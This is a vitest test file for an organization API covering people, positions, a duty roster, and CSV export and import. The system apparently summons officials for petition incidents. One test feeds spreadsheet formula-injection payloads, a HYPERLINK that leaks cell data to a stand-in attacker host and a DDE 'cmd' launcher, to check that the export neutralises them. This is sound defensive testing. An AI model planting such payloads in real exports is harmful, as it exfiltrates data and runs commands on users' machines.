import { parse as parseCsv } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DIALECTS } from '../../../test/support/databases.js';
import { Client, DEMO_PASSWORD, reportBody, testApp, type TestApp } from '../../../test/support/server.js';

/*
 * The organization through the API: the document, people, positions and the duty roster,
 * CSV export and all-or-nothing CSV import, and how these changes reach summons and the
 * plan (a new township is usable at once, with its 1-hour limit).
 */

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const T0 = Date.parse('2026-03-02T09:00:00+08:00');
const CSV = { 'content-type': 'text/csv' };

/** CSV text as rows of cells (the files here have no quoted commas); the BOM dropped. */
const rowsOf = (csv: string) =>
  csv
    .replace(/^\ufeff/, '')
    .split(/\r?\n/)
    .filter((l) => l.length)
    .map((l) => l.split(','));

for (const dialect of DIALECTS) {
  describe(`organization API on ${dialect}`, () => {
    let t: TestApp;
    let admin: Client;
    let staff: Client;

    beforeEach(async () => {
      t = await testApp(dialect, T0);
      // Asked in English: these tests read how each refusal names the field or line at fault.
      admin = await Client.as(t.app, 'admin', undefined, { lang: 'en' });
      staff = await Client.as(t.app, 'petition-bureau.staff', undefined, { lang: 'en' });
    });
    afterEach(async () => {
      await t.close();
    });

    const people = async () => (await admin.get('/api/org/people')).json() as any[];
    const addPerson = async (body: Record<string, unknown>) => {
      const res = await admin.post('/api/org/people', body);
      expect(res.statusCode, res.body).toBe(201);
      return res.json();
    };
    /** Reports a tier-3 incident and activates the plan: the duty leader is summoned now. */
    const dutySummons = async () => {
      const created = await staff.post('/api/incidents', reportBody({ headcount: 30 }));
      expect(created.statusCode, created.body).toBe(201);
      const leader = await Client.as(t.app, 'working-group.leader');
      const res = await leader.post(`/api/incidents/${created.json().id}/commands`, { do: 'escalate' });
      expect(res.statusCode, res.body).toBe(200);
      return res.json().summons.find((s: any) => s.role === 'police-bureau/duty-leader');
    };

    it('GET /api/org returns the organization document and its revision', async () => {
      const res = await staff.get('/api/org');
      expect(res.statusCode).toBe(200);
      const org = res.json();
      expect(org).toMatchObject({ rev: 1, id: 'zongyang-demo', timezone: 'Asia/Shanghai' });
      expect(org.venues.map((v: any) => v.id)).toEqual(['residence', 'venue-1', 'venue-2']);
      const units = new Map(org.units.map((u: any) => [u.id, u.kind]));
      expect(units.get('town-tanggou')).toBe('township');
      expect(units.get('dept-housing')).toBe('county-department');
      expect(units.get('police-bureau')).toBe('police');
      expect(org.positions['duty-leader']).toMatchObject({ duty: true });
      expect((await t.app.inject({ method: 'GET', url: '/api/org' })).statusCode).toBe(401);
    });

    it('an administrator adds a person, assigns a position and a duty shift; others may not', async () => {
      const person = await addPerson({ name: '李四', unit_id: 'town-hengbu', phone: '0556-0000000' });
      expect(person).toMatchObject({ id: expect.any(String), name: '李四', unit_id: 'town-hengbu', phone: '0556-0000000', email: null, active: true });
      expect((await people()).map((p) => p.id)).toContain(person.id);

      const position = await admin.post('/api/org/positions', { person_id: person.id, role: 'town-hengbu/principal' });
      expect(position.statusCode, position.body).toBe(201);
      expect(position.json()).toMatchObject({ person_id: person.id, role: 'town-hengbu/principal', ended_at: null });
      const positions = (await staff.get('/api/org/positions')).json() as any[];
      expect(positions.filter((p) => p.role === 'town-hengbu/principal').map((p) => p.person_id)).toContain(person.id);

      const shift = await admin.post('/api/org/roster', {
        role: 'police-bureau/duty-leader',
        person_id: person.id,
        starts_at: '2026-03-02T08:00:00+08:00',
        ends_at: '2026-03-02T20:00:00+08:00',
      });
      expect(shift.statusCode, shift.body).toBe(201);
      expect(shift.json()).toMatchObject({ role: 'police-bureau/duty-leader', person_id: person.id, starts_at: '2026-03-02T08:00:00+08:00', ends_at: '2026-03-02T20:00:00+08:00' });
      const roster = (await staff.get('/api/org/roster?from=2026-03-02T12:00:00%2B08:00&to=2026-03-02T13:00:00%2B08:00')).json() as any[];
      expect(roster.filter((s) => s.person_id === person.id)).toEqual([
        expect.objectContaining({ role: 'police-bureau/duty-leader', starts_at: '2026-03-02T08:00:00+08:00', ends_at: '2026-03-02T20:00:00+08:00' }),
      ]);

      // Summons name who holds the role: the new principal of Hengbu.
      const created = await staff.post('/api/incidents', reportBody({ units: ['town-hengbu'] }));
      const guided = await staff.post(`/api/incidents/${created.json().id}/commands`, { do: 'guide', result: 'failed' });
      expect(guided.json().summons[0].persons).toEqual(expect.arrayContaining([{ id: person.id, name: '李四' }]));

      // Refusals.
      for (const [url, body] of [
        ['/api/org/people', { name: '王五', unit_id: 'town-hengbu' }],
        ['/api/org/positions', { person_id: person.id, role: 'town-hengbu/responsible' }],
        ['/api/org/roster', { role: 'police-bureau/duty-leader', person_id: person.id, starts_at: '2026-03-03T08:00:00+08:00', ends_at: '2026-03-03T20:00:00+08:00' }],
        ['/api/org/units', { id: 'town-x', kind: 'township', name: { zh: '某镇', en: 'X Town' } }],
      ] as const) {
        const res = await staff.post(url, body);
        expect(res.statusCode, url).toBe(403);
        expect(res.json().error.code).toBe('forbidden');
      }
      const bad: [string, unknown][] = [
        ['/api/org/people', { name: '王五', unit_id: 'town-atlantis' }],
        ['/api/org/people', { unit_id: 'town-hengbu' }],
        ['/api/org/positions', { person_id: person.id, role: 'town-hengbu/mayor' }],
        ['/api/org/positions', { person_id: 'no-such-person', role: 'town-hengbu/principal' }],
        ['/api/org/roster', { role: 'police-bureau/duty-leader', person_id: person.id, starts_at: '2026-03-03T20:00:00+08:00', ends_at: '2026-03-03T08:00:00+08:00' }],
        ['/api/org/roster', { role: 'police-bureau/duty-leader', person_id: person.id, starts_at: 'tomorrow', ends_at: '2026-03-03T08:00:00+08:00' }],
      ];
      for (const [url, body] of bad) {
        const res = await admin.post(url, body);
        expect(res.statusCode, `${url} ${JSON.stringify(body)}: ${res.body}`).toBe(400);
        expect(res.json().error.code).toBe('bad_request');
      }
    });

    it('a person linked to an account signs in holding the roles assigned to them', async () => {
      const person = await addPerson({ name: '赵六', unit_id: 'dept-education' });
      expect((await admin.post('/api/org/positions', { person_id: person.id, role: 'dept-education/principal' })).statusCode).toBe(201);
      const user = await admin.post('/api/users', { username: 'zhao.liu', password: DEMO_PASSWORD, person_id: person.id });
      expect(user.statusCode, user.body).toBe(201);
      const c = await Client.as(t.app, 'zhao.liu');
      expect((await c.get('/api/me')).json()).toMatchObject({ username: 'zhao.liu', roles: ['dept-education/principal'] });
    });

    it('exports people, positions and roster as CSV with a header row', async () => {
      const expected = {
        people: ['id', 'name', 'unit_id', 'phone', 'email', 'active'],
        positions: ['id', 'person_id', 'role'],
        roster: ['id', 'role', 'person_id', 'starts_at', 'ends_at'],
      };
      for (const [kind, header] of Object.entries(expected)) {
        const res = await staff.get(`/api/org/${kind}.csv`);
        expect(res.statusCode, kind).toBe(200);
        expect(res.headers['content-type']).toMatch(/^text\/csv/);
        expect(res.headers['content-disposition']).toContain(`${kind}.csv`);
        const rows = rowsOf(res.body);
        expect(rows[0]).toEqual(header);
        expect(rows.length).toBeGreaterThan(1);
        for (const row of rows) expect(row).toHaveLength(header.length);
      }
      const roster = rowsOf((await staff.get('/api/org/roster.csv')).body);
      const duty = roster.find((r) => r[1] === 'police-bureau/duty-leader')!;
      expect(duty[3]).toBe('2026-03-01T09:00:00+08:00');
      const people = rowsOf((await staff.get('/api/org/people.csv')).body);
      expect(people.length - 1).toBe((await staff.get('/api/org/people')).json().length);
      expect((await t.app.inject({ method: 'GET', url: '/api/org/people.csv' })).statusCode).toBe(401);
    });

    it('imports people from CSV', async () => {
      const before = await people();
      const csv = ['name,unit_id,phone,email', '钱七,town-fushan,13800000001,', '孙八,dept-housing,,sun@example.cn'].join('\n');
      const res = await admin.post('/api/org/people.csv', csv, CSV);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ imported: 2 });
      const after = await people();
      expect(after).toHaveLength(before.length + 2);
      expect(after).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ name: '钱七', unit_id: 'town-fushan', phone: '13800000001', email: null, active: true }),
          expect.objectContaining({ name: '孙八', unit_id: 'dept-housing', phone: null, email: 'sun@example.cn', active: true }),
        ]),
      );
      // Only administrators import.
      const refused = await staff.post('/api/org/people.csv', csv, CSV);
      expect(refused.statusCode).toBe(403);
      expect(await people()).toHaveLength(before.length + 2);
    });

    it('a people CSV with one bad row is refused (400, naming the line) and nothing is imported', async () => {
      const before = await people();
      const csv = ['name,unit_id,phone,email', '钱七,town-fushan,,', '孙八,town-atlantis,,', '周九,dept-housing,,'].join('\n');
      const res = await admin.post('/api/org/people.csv', csv, CSV);
      expect(res.statusCode, res.body).toBe(400);
      const error = res.json().error;
      expect(error.code).toBe('bad_request');
      expect(error.message).toMatch(/nothing was imported/);
      expect(error.errors).toEqual(['line 3: unknown unit "town-atlantis"']);
      expect(await people()).toEqual(before);

      const missingName = await admin.post('/api/org/people.csv', ['name,unit_id', ',town-fushan'].join('\n'), CSV);
      expect(missingName.statusCode).toBe(400);
      expect(missingName.json().error.errors).toEqual(['line 2: name is required']);
      const notCsv = await admin.post('/api/org/people.csv', 'name,unit_id\n"unclosed,town-fushan\n', CSV);
      expect(notCsv.statusCode).toBe(400);
      expect(notCsv.json().error.code).toBe('bad_request');
      expect(await people()).toEqual(before);
    });

    it('imports positions from CSV, all rows or none', async () => {
      const a = await addPerson({ name: '吴十', unit_id: 'town-zongyang' });
      const b = await addPerson({ name: '郑一', unit_id: 'dept-natural-resources' });
      const bad = ['person_id,role', `${a.id},town-zongyang/principal`, `${b.id},dept-natural-resources/mayor`].join('\n');
      const refused = await admin.post('/api/org/positions.csv', bad, CSV);
      expect(refused.statusCode).toBe(400);
      expect(refused.json().error.errors).toEqual(['line 3: unknown role "dept-natural-resources/mayor"']);
      const held = async () => ((await admin.get('/api/org/positions')).json() as any[]).filter((p) => p.person_id === a.id || p.person_id === b.id);
      expect(await held()).toEqual([]);

      const csv = ['person_id,role', `${a.id},town-zongyang/principal`, `${b.id},dept-natural-resources/responsible`].join('\n');
      const res = await admin.post('/api/org/positions.csv', csv, CSV);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ imported: 2 });
      expect((await held()).map((p) => [p.person_id, p.role]).sort()).toEqual(
        [
          [a.id, 'town-zongyang/principal'],
          [b.id, 'dept-natural-resources/responsible'],
        ].sort(),
      );
      // Importing the same again assigns nobody twice.
      expect((await admin.post('/api/org/positions.csv', csv, CSV)).statusCode).toBe(200);
      expect(await held()).toHaveLength(2);
    });

    it('a duty shift imported from roster CSV puts that person on the next duty-leader summons', async () => {
      const person = await addPerson({ name: '值班员甲', unit_id: 'police-bureau' });
      const demo = (await dutySummons()).persons as { id: string; name: string }[];
      expect(demo).toHaveLength(1);

      const csv = ['role,person_id,starts_at,ends_at', `police-bureau/duty-leader,${person.id},2026-03-02T08:00:00+08:00,2026-03-02T20:00:00+08:00`].join('\n');
      const res = await admin.post('/api/org/roster.csv', csv, CSV);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ imported: 1 });
      t.clock.now += 10 * MINUTE;
      const next = await dutySummons();
      // The demo's year-long shift still covers this time, so both are on duty.
      expect(next.persons).toEqual(expect.arrayContaining([{ id: person.id, name: '值班员甲' }, ...demo]));
      expect(next.persons).toHaveLength(2);
    });

    it('when only the imported shift covers the time, its person is the one named on the summons', async () => {
      const person = await addPerson({ name: '值班员乙', unit_id: 'police-bureau' });
      // The demo leader's shift runs for a year from T0 - 1 day; this one starts after it.
      const starts = new Date(T0 + 400 * DAY);
      const iso = (d: Date) => d.toISOString().replace('.000Z', '+00:00');
      const csv = ['role,person_id,starts_at,ends_at', `police-bureau/duty-leader,${person.id},${iso(starts)},${iso(new Date(starts.getTime() + DAY))}`].join('\n');
      const res = await admin.post('/api/org/roster.csv', csv, CSV);
      expect(res.statusCode, res.body).toBe(200);

      t.clock.now = starts.getTime() + HOUR;
      staff = await Client.as(t.app, 'petition-bureau.staff'); // sessions last 12 h
      const summons = await dutySummons();
      expect(summons.persons).toEqual([{ id: person.id, name: '值班员乙' }]);
      // And that person's account, if any, now holds the duty role.
      const user = await (await Client.as(t.app, 'admin')).post('/api/users', { username: 'duty.b', password: DEMO_PASSWORD, person_id: person.id });
      expect(user.statusCode).toBe(201);
      expect((await (await Client.as(t.app, 'duty.b')).get('/api/me')).json().roles).toEqual(['police-bureau/duty-leader']);
    });

    it('a roster CSV row with an unknown person or a bad time is refused and nothing is imported', async () => {
      const person = await addPerson({ name: '值班员丙', unit_id: 'police-bureau' });
      const before = (await admin.get('/api/org/roster')).json();
      const csv = [
        'role,person_id,starts_at,ends_at',
        `police-bureau/duty-leader,${person.id},2026-03-03T08:00:00+08:00,2026-03-03T20:00:00+08:00`,
        'police-bureau/duty-leader,nobody,2026-03-04T08:00:00+08:00,2026-03-04T20:00:00+08:00',
        `police-bureau/duty-leader,${person.id},2026-03-05T20:00:00+08:00,2026-03-05T08:00:00+08:00`,
      ].join('\n');
      const res = await admin.post('/api/org/roster.csv', csv, CSV);
      expect(res.statusCode).toBe(400);
      expect(res.json().error.errors).toEqual([
        'line 3: unknown person "nobody"',
        'line 4: starts_at and ends_at must be ISO times with offset, ending after starting',
      ]);
      expect((await admin.get('/api/org/roster')).json()).toEqual(before);
    });

    // Regression (found by these tests): the roster export carries each shift's id, and the roster import inserts
    // every row with that id: importing an exported roster.csv back (e.g. after editing one
    // row) hits the primary key and answers 500 `internal` instead of updating the shifts
    // (as the people import does by id) or refusing with a 4xx naming the line.
    it('importing an exported roster.csv back is not a server error', async () => {
      const exported = await admin.get('/api/org/roster.csv');
      expect(exported.statusCode).toBe(200);
      const before = (await admin.get('/api/org/roster')).json();
      const res = await admin.post('/api/org/roster.csv', exported.body, CSV);
      expect(res.statusCode, res.body).toBeLessThan(500);
      expect((await admin.get('/api/org/roster')).json()).toHaveLength(before.length);
    });

    it('the people export cannot carry a spreadsheet formula, and imports back unchanged', async () => {
      const names = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '钱七'];
      const added = [];
      for (const name of names) added.push(await addPerson({ name, unit_id: 'town-fushan', phone: '+8613800000001' }));
      const exported = await admin.get('/api/org/people.csv');
      const rows = parseCsv(exported.body.replace(/^\ufeff/, ''), { columns: true }) as Record<string, string>[];
      const byId = new Map(rows.map((r) => [r.id, r]));
      for (const person of added) {
        const cell = byId.get(person.id)!.name!;
        expect(cell, person.name).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell).toBe(person.name === '钱七' ? '钱七' : `'${person.name}`);
        // A phone number is a number to a spreadsheet, not a formula: left as it is.
        expect(byId.get(person.id)!.phone).toBe('+8613800000001');
      }
      const res = await admin.post('/api/org/people.csv', exported.body, CSV);
      expect(res.statusCode, res.body).toBe(200);
      const after = new Map((await people()).map((p: any) => [p.id, p.name]));
      // `'\t=1+1` is trimmed by the importer like any cell; every other name comes back as it was.
      for (const person of added.filter((p) => !p.name.startsWith('\t'))) expect(after.get(person.id)).toBe(person.name);
    });

    // Regression (found by these tests): orgRepository.holders() drops deactivated people for ordinary positions
    // (`people.active = 1`) but not for duty roles read from the roster, so a person
    // deactivated with PATCH /api/org/people/:id { active: false } is still named as the
    // leader on duty on new summons.
    it('a deactivated person is no longer named on duty-leader summons', async () => {
      const shift = ((await admin.get('/api/org/roster')).json() as any[]).find((s) => s.role === 'police-bureau/duty-leader');
      const patched = await admin.request('PATCH', `/api/org/people/${shift.person_id}`, { active: false });
      expect(patched.statusCode).toBe(200);
      expect(patched.json().active).toBe(false);
      const summons = await dutySummons();
      expect(summons.persons).toEqual([]);
    });

    it('a deactivated person is no longer named on summons of an ordinary position', async () => {
      const position = ((await admin.get('/api/org/positions')).json() as any[]).find((p) => p.role === 'town-tanggou/principal');
      expect((await admin.request('PATCH', `/api/org/people/${position.person_id}`, { active: false })).statusCode).toBe(200);
      const created = await staff.post('/api/incidents', reportBody());
      const guided = await staff.post(`/api/incidents/${created.json().id}/commands`, { do: 'guide', result: 'failed' });
      expect(guided.json().summons[0]).toMatchObject({ role: 'town-tanggou/principal', persons: [] });
    });

    it('a unit added through POST /api/org/units is a responsible unit for a new incident, with the township 1-hour limit', async () => {
      const res = await admin.post('/api/org/units', {
        id: 'town-new',
        kind: 'township',
        name: { zh: '新镇', en: 'New Town' },
        in_charge: 'county-government/leader',
      });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json()).toMatchObject({ rev: 2, unit: { id: 'town-new', kind: 'township' } });
      const org = (await staff.get('/api/org')).json();
      expect(org.rev).toBe(2);
      expect(org.units.map((u: any) => u.id)).toContain('town-new');
      // Adding it twice is a conflict.
      const again = await admin.post('/api/org/units', { id: 'town-new', kind: 'township', name: { zh: '新镇', en: 'New Town' } });
      expect(again.statusCode).toBe(409);

      const created = await staff.post('/api/incidents', reportBody({ units: ['town-new'] }));
      expect(created.statusCode, created.body).toBe(201);
      const id = created.json().id;
      t.clock.now += 3 * MINUTE;
      const guided = await staff.post(`/api/incidents/${id}/commands`, { do: 'guide', result: 'failed' });
      expect(guided.statusCode, guided.body).toBe(200);
      expect(guided.json().summons).toEqual([
        expect.objectContaining({
          role: 'town-new/principal',
          unit: 'town-new',
          reason: 'unit_summoned',
          issued_at: '2026-03-02T09:03:00+08:00',
          deadline: '2026-03-02T10:03:00+08:00',
        }),
      ]);
      // A person may now be assigned to the new unit's positions.
      const person = await addPerson({ name: '新镇镇长', unit_id: 'town-new' });
      expect((await admin.post('/api/org/positions', { person_id: person.id, role: 'town-new/principal' })).statusCode).toBe(201);
      // The 1-hour deadline fires like any township's.
      t.clock.now = T0 + 3 * MINUTE + HOUR;
      await t.processor.fireDueTimers();
      const view = (await staff.get(`/api/incidents/${id}`)).json();
      expect(view.summons[0].status).toBe('missed');
      expect(view.alerts).toEqual([{ at: '2026-03-02T10:03:00+08:00', kind: 'deadline_missed', role: 'town-new/principal' }]);
    });

    it('a unit the organization rejects (bad id, unknown kind) is refused and the revision stays', async () => {
      for (const body of [
        { id: 'Town_New', kind: 'township', name: { zh: '新镇', en: 'New Town' } },
        { id: 'town-new', kind: 'village', name: { zh: '新镇', en: 'New Town' } },
        { id: 'town-new', kind: 'township', name: { zh: '新镇' } },
      ]) {
        const res = await admin.post('/api/org/units', body);
        expect(res.statusCode, JSON.stringify(body)).toBe(400);
      }
      expect((await staff.get('/api/org')).json().rev).toBe(1);
      const unknown = await staff.post('/api/incidents', reportBody({ units: ['town-new'] }));
      expect(unknown.statusCode).toBe(400);
      expect(unknown.json().error.message).toMatch(/town-new/);
    });
  });
}
